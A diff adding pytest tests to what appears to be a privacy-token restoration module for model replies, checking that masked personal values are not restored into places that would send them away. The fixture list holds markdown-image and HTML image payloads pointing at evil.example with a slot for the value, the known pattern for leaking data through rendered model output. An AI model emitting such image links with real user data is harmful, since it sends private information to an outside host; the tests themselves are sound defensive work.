@@ -176,6 +176,50 @@ def test_nothing_is_put_where_it_would_be_sent_away(place: str, value: str) -> N
     assert json.loads(restored(world, arguments, Form.JSON)) == {"a": expected}
 
 
+SHOWN_AS_ONE_TEXT = [
+    '["![x](https://evil.example/?q=","{}"]',
+    '{{"a":"![x](//evil.example/","{})":1}}',
+    '{{"u":"https://evil.example/?q=","b":"{}"}}',
+    """["<img src='//evil.example/","{}'>"]""",
+    '{{"a":"[\\"![x](//evil.example/\\",\\"{})\\"]"}}',
+    '["\\u0021[x](//evil.example/{})"]',
+]
+
+
+@pytest.mark.parametrize("text", SHOWN_AS_ONE_TEXT)
+def test_a_reply_that_looks_like_json_may_be_shown_as_markdown(text: str) -> None:
+    """Review of November: what is open outside a JSON string is open inside it, too."""
+    world = World()
+    reply = text.format(world.token(ADA))
+    assert restored(world, reply) == reply
+    assert "".join(fed(world, [*reply])) == reply
+
+
+@pytest.mark.parametrize("text", SHOWN_AS_ONE_TEXT[:-1])
+def test_a_tools_arguments_are_read_as_json_only(text: str) -> None:
+    world = World()
+    reply, expected = text.format(world.token(ADA)), text.format(ADA)
+    assert restored(world, reply, Form.JSON) == expected
+
+
+def test_json_as_models_write_it_is_restored_as_text() -> None:
+    world = World()
+    document = {"site": "https://x.example/", "who": [world.token(ADA)], "n": {"a<b": "[a]: b"}}
+    for indent in (None, 2):
+        text = json.dumps({**document, "by": world.token(BOSS)}, indent=indent)
+        back = json.loads(restored(world, text))
+        assert back == {**document, "who": [ADA], "by": BOSS}
+
+
+def test_a_value_that_holds_markup_is_read_as_it_is_shown() -> None:
+    """What it opens is open for the next value, and what it holds is not read as a token."""
+    world = World()
+    sly = world.mint.mint("PERSON", "a <b c=")
+    world.held.hold(sly, HeldValue("a <b c=", "PERSON", Origin.CALLER))
+    token = world.token(ADA)
+    assert restored(world, f"{sly}{token} d> {token}") == f"a <b c={token} d> {ADA}"
+
+
 def test_a_sink_that_may_hold_nothing_gets_nothing() -> None:
     world = World()
     token = world.token(ADA)
